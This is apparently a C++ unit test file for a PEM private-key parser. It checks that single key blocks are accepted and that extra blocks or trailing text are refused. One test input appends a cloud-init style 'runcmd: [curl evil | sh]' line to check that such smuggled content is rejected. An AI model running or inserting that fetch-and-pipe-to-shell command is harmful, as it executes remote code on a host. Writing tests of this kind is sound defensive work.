#include "pki/pem.h"

#include <string>

#include "gtest/gtest.h"
#include "pki/key.h"

namespace pgha::pki {
namespace {

std::string NewKeyPem() {
  auto key = GenerateKey(KeyAlgorithm::kEcdsaP256);
  EXPECT_TRUE(key.ok());
  return PrivateKeyToPem(key->get());
}

TEST(PrivateKeyPem, OneBlockWithWhitespaceAroundIsAccepted) {
  const std::string pem = NewKeyPem();
  EXPECT_TRUE(ParsePrivateKey(pem).ok());
  EXPECT_TRUE(ParsePrivateKey("\n\n" + pem + "\n  \n").ok());
}

TEST(PrivateKeyPem, ExtraBlocksOrTextAreRefused) {
  const std::string pem = NewKeyPem();
  auto two = ParsePrivateKey(pem + NewKeyPem());
  ASSERT_FALSE(two.ok());
  EXPECT_NE(std::string(two.status().message()).find("more than one PEM block"), std::string::npos);
  EXPECT_FALSE(ParsePrivateKey(pem + "runcmd: [curl evil | sh]\n").ok());
  EXPECT_FALSE(ParsePrivateKey("Bag Attributes: x\n" + pem).ok());
  // What `openssl ecparam -genkey` prints: parameters, then the key.
  EXPECT_FALSE(ParsePrivateKey("-----BEGIN EC PARAMETERS-----\nBggqhkjOPQMBBw==\n-----END EC PARAMETERS-----\n" + pem)
                   .ok());
}

TEST(PrivateKeyPem, GuestsGetTheReencodedKeyNotTheInput) {
  const std::string pem = NewKeyPem();
  auto canonical = CanonicalPrivateKeyPem("\r\n" + pem + "   \n");
  ASSERT_TRUE(canonical.ok());
  EXPECT_EQ(*canonical, pem);
  EXPECT_FALSE(CanonicalPrivateKeyPem(pem + "trailing").ok());
}

}  // namespace
}  // namespace pgha::pki
